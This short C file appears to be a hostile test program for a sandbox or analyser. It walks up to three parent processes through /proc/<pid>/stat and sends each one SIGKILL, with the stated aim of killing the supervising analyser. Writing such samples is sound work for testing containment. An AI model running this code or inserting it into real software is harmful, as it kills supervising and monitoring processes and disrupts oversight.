// kill -9 of its parents up to the analyser
// Time: 10
#include "hostile.h"
static void attack(void) {
  char path[64], text[512];
  long process = syscall(SYS_getppid), above[3];
  int count = 0;
  for (; count < 3 && process > 1; ++count) {
    above[count] = process;
    snprintf(path, sizeof path, "/proc/%ld/stat", process);
    if (get_file(path, text, sizeof text) <= 0) break;
    const char* after = strrchr(text, ')');
    process = after && strlen(after) > 4 ? atol(after + 4) : 0;
  }
  while (count-- > 0)
    if (above[count] > 1) syscall(SYS_kill, above[count], SIGKILL);
}
MAIN
